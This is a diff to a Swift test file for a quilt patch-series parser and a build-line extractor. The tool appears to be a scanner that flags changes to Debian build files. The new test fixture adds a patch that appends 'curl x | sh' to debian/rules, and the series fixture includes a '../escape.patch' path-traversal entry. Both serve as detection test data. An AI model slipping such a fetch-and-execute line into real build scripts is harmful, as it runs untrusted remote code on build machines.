@@ -44,6 +44,12 @@ import Testing
 
     @Test func theSeriesListsThePatchesApplied() {
         let series = "# comment\nfirst.patch\n\nsub/second.patch -p1\n../escape.patch\n  third.diff\n"
-        #expect(QuiltSeries.patches(Array(series.utf8)) == ["first.patch", "sub/second.patch", "third.diff"])
+        #expect(
+            QuiltSeries.patches(Array(series.utf8)).map(\.name) == ["first.patch", "sub/second.patch", "third.diff"])
+        #expect(QuiltSeries.patches(Array("a.patch -p0\nb.patch\n".utf8)).map(\.strip) == [0, 1])
+        // With -p0 the paths are the tree's own: `debian/rules` is not `rules`.
+        let p0 = "--- debian/rules\n+++ debian/rules\n@@ -1 +1,2 @@\n x\n+curl x | sh\n"
+        #expect(PatchBuildLines.extract(Array(p0.utf8), strip: 0) != nil)
+        #expect(PatchBuildLines.extract(Array(p0.utf8), strip: 1) == nil, "`rules` alone is no build file")
     }
 }
